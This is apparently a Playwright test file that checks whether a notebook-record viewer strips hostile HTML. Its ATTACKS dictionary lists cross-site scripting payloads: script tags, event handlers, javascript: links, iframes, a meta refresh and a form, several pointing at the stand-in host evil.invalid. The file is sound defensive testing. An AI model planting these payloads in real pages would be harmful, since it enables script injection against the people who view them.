"""A record is an executed notebook, and so the classic attack on whoever opens it.

Each attack is first shown to work in a page that nobody guards, so that it would be noticed.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, Route, expect

from coprod_widgets.settings import Settings
from coprod_widgets.store import Store
from tests.browser.deskward import start_desk
from tests.browser.guard import guarded
from tests.browser.meeting import sign_in
from tests.browser.ward import Ward
from tests.workbook.desks import add_person, closed
from tests.workbook.sealed import sealed

pytestmark = pytest.mark.browser

EVIL = "http://evil.invalid"
RUNS = "window.planted = true"
ATTACKS = {
    "script tag": f"<script>{RUNS}</script>",
    "remote script": f'<script src="{EVIL}/x.js"></script>',
    "event handler": f'<img src="{EVIL}/x.png" onerror="{RUNS}">',
    "handler on a shape": f'<svg><animate onbegin="{RUNS}" attributeName="x" dur="1s"/></svg>',
    "script in a picture": f"<svg><script>{RUNS}</script></svg>",
    "javascript link": f'<a id="bait" href="javascript:{RUNS}">Read more</a>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/away">',
    "style import": f"<style>@import url({EVIL}/x.css);</style>",
    "remote stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "remote image": f'<img src="{EVIL}/x.png">',
    "image in a picture": f'<svg><image href="{EVIL}/x.png" width="9" height="9"/></svg>',
    "background": f'<div style="background:url({EVIL}/x.png)">x</div>',
    "frame": f'<iframe src="{EVIL}/x"></iframe>',
    "frame of its own": '<iframe srcdoc="<script>parent.planted = true</script>"></iframe>',
    "object": f'<object data="{EVIL}/x"></object>',
    "video": f'<video src="{EVIL}/x.mp4" autoplay></video>',
    "form": f'<form action="{EVIL}/x"><button id="bait">Sign in again</button></form>',
    "handler that focuses": f'<input autofocus onfocus="{RUNS}">',
    "details": f'<details open ontoggle="{RUNS}"><summary>x</summary></details>',
}
OTHER_KINDS = (
    {"application/javascript": RUNS, "text/plain": "a script"},
    {"image/svg+xml": ATTACKS["script in a picture"], "text/plain": "a picture"},
    {"text/markdown": ATTACKS["event handler"], "text/plain": "some words"},
    {"text/plain": ATTACKS["script tag"]},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "a widget"},
)


@pytest.fixture(scope="module")
def ward(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ward]:
    started = start_desk(Path(tmp_path_factory.mktemp("attacked")), _planted)
    yield started
    started.kill()


def _planted(store: Store) -> None:
    bundles = [{"text/html": html} for html in ATTACKS.values()]
    everything = "".join(ATTACKS.values())
    for name, planted in (
        *((name, [bundle]) for name, bundle in zip(ATTACKS, bundles, strict=True)),
        ("All at once", [{"text/html": everything}, *OTHER_KINDS]),
    ):
        held = closed(store, add_person(store, name))
        sealed(store, held.id, held.at, planted=planted)


def _address(ward: Ward, name: str) -> str:
    with Store.open(Settings.load(ward.data)) as store:
        person = store.patient_numbered(f"N-{name}")
        assert person is not None
        (talk,) = store.talks_of(person.id)
        return f"{ward.url}/records/{store.records_of(talk.id)[0].id}"


def _bait(page: Page) -> None:
    """Press whatever was laid out to be pressed."""
    bait = page.locator("#bait")
    if bait.count():
        bait.first.click(force=True)
    page.wait_for_timeout(200)


@pytest.mark.parametrize("name", ATTACKS)
def test_each_attack_works_where_nothing_stops_it(browser: Browser, name: str) -> None:
    context = browser.new_context()
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route(f"{EVIL}/**", answer)
    context.route(
        "http://bare.invalid/", lambda route: route.fulfill(body="", content_type="text/html")
    )
    page = context.new_page()
    page.goto("http://bare.invalid/")
    page.set_content(f"<body>{ATTACKS[name]}</body>")
    for _ in range(20):
        _bait(page)
        if asked or page.evaluate("window.planted === true"):
            break
    ran = asked or page.evaluate("window.planted === true")
    context.close()
    assert ran, "an attack that does nothing proves nothing"


@pytest.mark.parametrize("name", [*ATTACKS, "All at once"])
def test_nothing_planted_runs_or_is_asked_for(ward: Ward, browser: Browser, name: str) -> None:
    address = _address(ward, name)
    # The guard fails the test on any request outside, any script error and any report of the
    # policy: what was planted must be gone, and not only be kept from working.
    with guarded(browser, ward.url) as context:
        page = context.new_page()
        dialogs: list[Dialog] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
        sign_in(page, ward.url, ward.account("supervisor"))
        page.goto(address)
        expect(page.get_by_role("heading", name="Where the two differ")).to_be_visible()
        _bait(page)
        assert page.url == address
        assert page.evaluate("window.planted") is None
        assert dialogs == []
        read = page.locator(".read")
        for tag in ("script", "iframe", "img", "form", "object", "video", "link", "meta", "style"):
            assert read.locator(tag).count() == 0, tag
        for attribute in ("onerror", "onfocus", "onbegin", "ontoggle", "style", "srcdoc"):
            assert read.locator(f"[{attribute}]").count() == 0, attribute
        assert not read.locator("a[href]").evaluate_all(
            "all => all.some(a => a.host !== location.host)"
        )
        # All that belongs to the record is there.
        expect(read.get_by_text("I could see what is written").first).to_be_visible()
        expect(page.get_by_role("button", name="Save the review")).to_be_visible()
